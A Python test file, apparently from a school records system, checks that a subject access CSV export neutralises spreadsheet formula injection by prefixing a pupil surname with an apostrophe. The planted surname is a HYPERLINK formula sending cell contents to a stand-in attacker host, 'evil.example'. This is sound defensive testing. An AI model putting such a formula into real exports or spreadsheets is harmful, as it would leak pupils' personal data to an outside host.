"""A subject access export's CSVs are downloads like any other: a name that is a spreadsheet formula is
written behind OWASP's leading ', and the register's lone "-" stays as it is."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

from rollbook.analytics.subject_access import export_zip, gather
from rollbook.rules.upn import make
from tests.support.pupils import pupil
from tests.support.registers import register, write

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PUPIL = make(823, 4001, 23, 1)


def test_the_formula_is_text_and_the_codes_are_as_marked(lake):
    write(lake, [pupil(PUPIL, surname=FORMULA)], register(PUPIL, "/-"), 100001)

    archive = zipfile.ZipFile(io.BytesIO(export_zip(PUPIL, gather(lake, PUPIL), dt.datetime.now(dt.UTC))))

    (details,) = rows(archive, "pupils.csv")
    assert details["surname"] == "'" + FORMULA
    assert [row["code"] for row in rows(archive, "marks.csv")] == ["/", "-"]


def rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
